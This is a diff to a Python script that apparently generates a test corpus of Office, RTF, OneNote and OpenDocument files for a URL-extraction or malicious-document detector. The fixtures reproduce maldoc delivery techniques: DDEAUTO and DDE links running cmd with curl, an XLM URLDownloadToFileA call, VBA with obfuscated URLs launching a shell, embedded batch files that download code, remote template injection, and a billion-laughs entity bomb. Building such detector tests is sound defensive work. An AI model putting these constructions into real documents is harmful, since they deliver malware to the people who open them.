@@ -14,13 +14,49 @@ from corpus import Corpus
 from msoffcrypto.format.ooxml import OOXMLFile
 from odf import opendocument, table
 from odf import text as odftext
-from office_parts import archive, code, compound, document, macros, mark, native, note, old_object, piece_table, relations, run
+from office_parts import (
+    archive,
+    code,
+    compound,
+    document,
+    macros,
+    mark,
+    native,
+    note,
+    old_object,
+    piece_table,
+    relations,
+    run,
+)
 from pptx import Presentation
 
 corpus = Corpus("office")
-HOSTS = iter(f"{word}-{kind}.com" for kind in ("lagerbrief", "wgetcdn", "sendpult", "postrand") for word in (
-    "akten", "beleg", "datei", "folge", "gabel", "hafen", "insel", "jacke", "kabel", "lampe", "mappe", "nadel", "orgel", "pegel", "quelle", "regal", "sockel", "tafel", "ufer", "vogel"
-))
+HOSTS = iter(
+    f"{word}-{kind}.com"
+    for kind in ("lagerbrief", "wgetcdn", "sendpult", "postrand")
+    for word in (
+        "akten",
+        "beleg",
+        "datei",
+        "folge",
+        "gabel",
+        "hafen",
+        "insel",
+        "jacke",
+        "kabel",
+        "lampe",
+        "mappe",
+        "nadel",
+        "orgel",
+        "pegel",
+        "quelle",
+        "regal",
+        "sockel",
+        "tafel",
+        "ufer",
+        "vogel",
+    )
+)
 
 
 def url(path: str = "a/open", scheme: str = "https") -> str:
@@ -44,11 +80,18 @@ def hand(name: str, body: str, *found: str, rels: str = "", **more: str) -> None
     members: dict[str, str | bytes] = {"word/document.xml": body}
     if rels:
         members["word/_rels/document.xml.rels"] = rels
-    corpus.add(name, archive({**members, **{key.replace("__", "/").replace("_x_", "."): value for key, value in more.items()}}), *found)
+    corpus.add(
+        name,
+        archive({**members, **{key.replace("__", "/").replace("_x_", "."): value for key, value in more.items()}}),
+        *found,
+    )
 
 
 def documents() -> None:
-    corpus.add("plain.docx", word("Nothing to see here.", "Sincerely"), )
+    corpus.add(
+        "plain.docx",
+        word("Nothing to see here.", "Sincerely"),
+    )
     a = url()
     corpus.add("text.docx", word(f"Please go to {a} today."), a)
     made = docx.Document()
@@ -58,23 +101,55 @@ def documents() -> None:
     made.add_table(1, 2).cell(0, 1).text = c
     corpus.add("header-footer-table.docx", saved(made.save), a, b, c)
     a = url()
-    hand("hyperlink.docx", document(f'<w:hyperlink r:id="r1">{run("Open your document")}</w:hyperlink>'), a, rels=relations(("r1", "hyperlink", a)))
+    hand(
+        "hyperlink.docx",
+        document(f'<w:hyperlink r:id="r1">{run("Open your document")}</w:hyperlink>'),
+        a,
+        rels=relations(("r1", "hyperlink", a)),
+    )
     a = url("a?b=1&c=2")
-    hand("field.docx", document(mark("begin") + code(" HYPERLINK &quot;" + a.replace("&", "&amp;") + "&quot; \\o &quot;click&quot; ") + mark("separate") + run("here") + mark("end")), a)
+    hand(
+        "field.docx",
+        document(
+            mark("begin")
+            + code(" HYPERLINK &quot;" + a.replace("&", "&amp;") + "&quot; \\o &quot;click&quot; ")
+            + mark("separate")
+            + run("here")
+            + mark("end")
+        ),
+        a,
+    )
     a = url()
     split = "".join(code(piece) for piece in (" HYP", "ERLINK ", "&quot;", a[:12], a[12:], "&quot;"))
     hand("field-in-pieces.docx", document(mark("begin") + split + mark("separate") + run("here") + mark("end")), a)
     a = url()
-    hand("simple-field.docx", document(f'<w:fldSimple w:instr=\'INCLUDEPICTURE "{a}" \\d\'>{run("x")}</w:fldSimple>'), a)
+    hand(
+        "simple-field.docx", document(f"<w:fldSimple w:instr='INCLUDEPICTURE \"{a}\" \\d'>{run('x')}</w:fldSimple>"), a
+    )
     a = url("t.dotm", "http")
-    corpus.add("template.docx", archive({"word/document.xml": document(run("Loading")), "word/settings.xml": "<w:settings/>", "word/_rels/settings.xml.rels": relations(("r1", "attachedTemplate", a))}), a)
+    corpus.add(
+        "template.docx",
+        archive(
+            {
+                "word/document.xml": document(run("Loading")),
+                "word/settings.xml": "<w:settings/>",
+                "word/_rels/settings.xml.rels": relations(("r1", "attachedTemplate", a)),
+            }
+        ),
+        a,
+    )
     a = url("x.html", "http")
     hand("mhtml-object.docx", document(run("Wait")), a, rels=relations(("r1", "oleObject", f"mhtml:{a}!x-usc:{a}")))
     for kind in ("frame", "image", "subDocument", "video"):
         a = url("f.bin", "http")
         hand(f"external-{kind}.docx", document(run("Wait")), a, rels=relations(("r1", kind, a)))
     host = next(HOSTS)
-    hand("share-template.docx", document(run("Wait")), f"domain={host}", rels=relations(("r1", "attachedTemplate", f"\\\\{host}@SSL\\share\\t.dotm")))
+    hand(
+        "share-template.docx",
+        document(run("Wait")),
+        f"domain={host}",
+        rels=relations(("r1", "attachedTemplate", f"\\\\{host}@SSL\\share\\t.dotm")),
+    )
     a = url()
     dde = code("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k curl " + a + "&quot;")
     hand("dde.docx", document(mark("begin") + dde + mark("end")), a)
@@ -90,19 +165,50 @@ def documents() -> None:
     a = url()
     corpus.add("types-last.docx", archive({"word/document.xml": document(run(a))}, first=False), a)
     a = url()
-    wide = document(run(f"see {a}")).replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-16"?>').encode("utf-16")
+    wide = (
+        document(run(f"see {a}"))
+        .replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="utf-16"?>')
+        .encode("utf-16")
+    )
     corpus.add("utf16.docx", archive({"word/document.xml": wide}), a)
-    corpus.add("properties-only.docx", archive({"word/document.xml": document(run("Text")), "docProps/app.xml": f"<Properties><HyperlinkBase>{url()}</HyperlinkBase></Properties>", "customXml/item1.xml": f"<a b='{url()}'/>"}))
+    corpus.add(
+        "properties-only.docx",
+        archive(
+            {
+                "word/document.xml": document(run("Text")),
+                "docProps/app.xml": f"<Properties><HyperlinkBase>{url()}</HyperlinkBase></Properties>",
+                "customXml/item1.xml": f"<a b='{url()}'/>",
+            }
+        ),
+    )
     laughs = '<!DOCTYPE x [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;">]>' + document(run("&b;" * 50))
     hand("entities.docx", laughs)
     a = url()
     picture = saved(lambda out: segno.make(a).save(out, kind="png", scale=5))
-    corpus.add("qr-picture.docx", archive({"word/document.xml": document(run("Scan")), "word/media/image1.png": picture}), a)
+    corpus.add(
+        "qr-picture.docx", archive({"word/document.xml": document(run("Scan")), "word/media/image1.png": picture}), a
+    )
     a = url("run.vbs")
-    ole = compound({"\x01Ole10Native": (lambda data: len(data).to_bytes(4, "little") + data)(native("invoice.bat", f"curl {a} -o x".encode()))})
-    corpus.add("package.docx", archive({"word/document.xml": document(run("Open")), "word/embeddings/oleObject1.bin": ole}), a, path="package.docx > oleObject1.bin > invoice.bat")
+    ole = compound(
+        {
+            "\x01Ole10Native": (lambda data: len(data).to_bytes(4, "little") + data)(
+                native("invoice.bat", f"curl {a} -o x".encode())
+            )
+        }
+    )
+    corpus.add(
+        "package.docx",
+        archive({"word/document.xml": document(run("Open")), "word/embeddings/oleObject1.bin": ole}),
+        a,
+        path="package.docx > oleObject1.bin > invoice.bat",
+    )
     a = url()
-    corpus.add("embedded.docx", archive({"word/document.xml": document(run("Open")), "word/embeddings/inner.docx": word(a)}), a, path="embedded.docx > inner.docx")
+    corpus.add(
+        "embedded.docx",
+        archive({"word/document.xml": document(run("Open")), "word/embeddings/inner.docx": word(a)}),
+        a,
+        path="embedded.docx > inner.docx",
+    )
 
 
 def project(source: str) -> bytes:
@@ -118,13 +224,38 @@ def with_macros() -> None:
         "third = " + " & ".join(f"Chr({ord(letter)})" for letter in c) + "\n"
         'Set shell = CreateObject("WScript.Shell")\nshell.Run "cmd /c start " & url, 0\nApplication.Quit\nEnd Sub\n'
     )
-    corpus.add("macro.docm", archive({"word/document.xml": document(run("Enable content")), "word/vbaProject.bin": project(source)}), a, b, c)
+    corpus.add(
+        "macro.docm",
+        archive({"word/document.xml": document(run("Enable content")), "word/vbaProject.bin": project(source)}),
+        a,
+        b,
+        c,
+    )
     d = url("four.exe")
-    corpus.add("macro.xlsm", archive({"xl/workbook.xml": "<workbook/>", "xl/vbaProject.bin": project(f'x = "{d[:10]}"\nx = x & "{d[10:]}"\n')}), d)
+    corpus.add(
+        "macro.xlsm",
+        archive(
+            {"xl/workbook.xml": "<workbook/>", "xl/vbaProject.bin": project(f'x = "{d[:10]}"\nx = x & "{d[10:]}"\n')}
+        ),
+        d,
+    )
     e = url("five.exe")
-    streams = {f"Macros/{name}".replace("Macros/VBA/", "VBA/"): data for name, data in macros({"Module1": f'y = StrReverse("{e[::-1]}")  & ""\n'}).items()}
+    streams = {
+        f"Macros/{name}".replace("Macros/VBA/", "VBA/"): data
+        for name, data in macros({"Module1": f'y = StrReverse("{e[::-1]}")  & ""\n'}).items()
+    }
     corpus.add("macro.doc", compound({**piece_table("Enable content\r"), **streams}), e)
-    corpus.add("macro-harmless.docm", archive({"word/document.xml": document(run("x")), "word/vbaProject.bin": project("Sub A()\nActiveDocument.Range.Text = \"hello\"\nApplication.Run \"b\"\nMe.Name = 1\nEnd Sub\n")}))
+    corpus.add(
+        "macro-harmless.docm",
+        archive(
+            {
+                "word/document.xml": document(run("x")),
+                "word/vbaProject.bin": project(
+                    'Sub A()\nActiveDocument.Range.Text = "hello"\nApplication.Run "b"\nMe.Name = 1\nEnd Sub\n'
+                ),
+            }
+        ),
+    )
 
 
 def sheets() -> None:
@@ -157,13 +288,28 @@ def sheets() -> None:
     made.close()
     corpus.add("comment.xlsx", out.getvalue(), d, e)
     f = url("c?d", "http")
-    corpus.add("connection.xlsx", archive({"xl/workbook.xml": "<workbook/>", "xl/connections.xml": f'<connections><connection><webPr url="{f}"/></connection></connections>'}), f)
+    corpus.add(
+        "connection.xlsx",
+        archive(
+            {
+                "xl/workbook.xml": "<workbook/>",
+                "xl/connections.xml": f'<connections><connection><webPr url="{f}"/></connection></connections>',
+            }
+        ),
+        f,
+    )
     g = url("x.exe")
     external = f'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c curl {g}"/></externalLink>'
-    corpus.add("external-dde.xlsx", archive({"xl/workbook.xml": "<workbook/>", "xl/externalLinks/externalLink1.xml": external}), g)
+    corpus.add(
+        "external-dde.xlsx",
+        archive({"xl/workbook.xml": "<workbook/>", "xl/externalLinks/externalLink1.xml": external}),
+        g,
+    )
     h = url("m.dll")
     formulas = f'<worksheet><sheetData><row><c><f>CALL("urlmon","URLDownloadToFileA","JJCCJJ",0,"{h[:8]}"&amp;CHAR({ord(h[8])})&amp;"{h[9:]}","x")</f></c></row></sheetData></worksheet>'
-    corpus.add("macro-sheet.xlsm", archive({"xl/workbook.xml": "<workbook/>", "xl/macrosheets/sheet1.xml": formulas}), h)
+    corpus.add(
+        "macro-sheet.xlsm", archive({"xl/workbook.xml": "<workbook/>", "xl/macrosheets/sheet1.xml": formulas}), h
+    )
     old = xlwt.Workbook()
     sheet = old.add_sheet("List")
     i, j = url(), url()
@@ -199,7 +345,9 @@ def locked() -> None:
 
 def rich_text() -> None:
     def rich(name: str, body: str, *found: str, **told: str) -> None:
-        corpus.add(name, ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}" + body + "}").encode("latin-1"), *found, **told)
+        corpus.add(
+            name, ("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}" + body + "}").encode("latin-1"), *found, **told
+        )
 
     rich("plain.rtf", "Nothing here.\\par Sincerely")
     a = url()
@@ -211,20 +359,41 @@ def rich_text() -> None:
     a = url("t.dotm", "http")
     rich("template.rtf", f"{{\\*\\template {a}}}text", a)
     a = url("t.dotm", "http")
-    rich("template-hidden.rtf", "{\\*\\template " + "".join(f"\\'{ord(c):02x}" if i % 2 else f"\\u{ord(c)}?" for i, c in enumerate(a)) + "}text", a)
+    rich(
+        "template-hidden.rtf",
+        "{\\*\\template "
+        + "".join(f"\\'{ord(c):02x}" if i % 2 else f"\\u{ord(c)}?" for i, c in enumerate(a))
+        + "}text",
+        a,
+    )
     a = url("go.vbs")
-    data = old_object(b"Package", native("invoice.vbs", f"x = \"{a}\"".encode())).hex()
+    data = old_object(b"Package", native("invoice.vbs", f'x = "{a}"'.encode())).hex()
     told = "invoice.vbs"
-    rich("package.rtf", f"{{\\object\\objemb{{\\*\\objclass Package}}{{\\*\\objdata {data}}}}}", a, path=f"package.rtf > {told}")
+    rich(
+        "package.rtf",
+        f"{{\\object\\objemb{{\\*\\objclass Package}}{{\\*\\objdata {data}}}}}",
+        a,
+        path=f"package.rtf > {told}",
+    )
     a = url("go.vbs")
-    data = old_object(b"Package", native("invoice.vbs", f"x = \"{a}\"".encode())).hex()
-    mixed = "".join(f"{pair}\n" if i % 5 else f"{{\\*\\aa00 11}}{pair[0]} \\zz {pair[1]}" for i, pair in enumerate(data[j : j + 2] for j in range(0, len(data), 2)))
-    rich("package-obfuscated.doc", f"{{\\object\\objemb{{\\*\\objdata {mixed}}}}}", a, path=f"package-obfuscated.doc > {told}")
+    data = old_object(b"Package", native("invoice.vbs", f'x = "{a}"'.encode())).hex()
+    mixed = "".join(
+        f"{pair}\n" if i % 5 else f"{{\\*\\aa00 11}}{pair[0]} \\zz {pair[1]}"
+        for i, pair in enumerate(data[j : j + 2] for j in range(0, len(data), 2))
+    )
+    rich(
+        "package-obfuscated.doc",
+        f"{{\\object\\objemb{{\\*\\objdata {mixed}}}}}",
+        a,
+        path=f"package-obfuscated.doc > {told}",
+    )
     a = url("h.hta", "http")
     moniker = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")
     target = (a + "\0").encode("utf-16-le")
     link = compound({"\x01Ole": bytes(32) + moniker + len(target).to_bytes(4, "little") + target})
-    rich("ole2link.rtf", f"{{\\object\\objautlink\\objupdate{{\\*\\objdata {old_object(b'OLE2Link', link).hex()}}}}}", a)
+    rich(
+        "ole2link.rtf", f"{{\\object\\objautlink\\objupdate{{\\*\\objdata {old_object(b'OLE2Link', link).hex()}}}}}", a
+    )
 
 
 def others() -> None:
@@ -233,7 +402,18 @@ def others() -> None:
     a = url()
     corpus.add("hyperlink.doc", compound(piece_table(f'x \x13 HYPERLINK "{a}" \x14Open\x15\r')), a)
     a, b = url(), url("p.png")
-    corpus.add("script.one", note("invoice.bat", "Double click to view", f'@echo off\r\ncurl "{a}"\r\n'.encode(), f'\ufddfHYPERLINK "{b}"Open the file'), a, b, path="script.one > invoice.bat")
+    corpus.add(
+        "script.one",
+        note(
+            "invoice.bat",
+            "Double click to view",
+            f'@echo off\r\ncurl "{a}"\r\n'.encode(),
+            f'\ufddfHYPERLINK "{b}"Open the file',
+        ),
+        a,
+        b,
+        path="script.one > invoice.bat",
+    )
     corpus.add("plain.one", note("Meeting notes of today"))
     made = opendocument.OpenDocumentText()
     a, b = url(), url()
@@ -251,7 +431,18 @@ def others() -> None:
     corpus.add("formula.ods", saved(cells.write), a)
     a = url()
     module = f'<script:module xmlns:script="s" script:name="M">Shell("curl " &amp; "{a}")</script:module>'
-    corpus.add("macro.odt", archive({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office:document-content/>", "Basic/Standard/M.xml": module}, first=False), a)
+    corpus.add(
+        "macro.odt",
+        archive(
+            {
+                "mimetype": "application/vnd.oasis.opendocument.text",
+                "content.xml": "<office:document-content/>",
+                "Basic/Standard/M.xml": module,
+            },
+            first=False,
+        ),
+        a,
+    )
 
 
 for make in (documents, with_macros, sheets, slides, locked, rich_text, others):
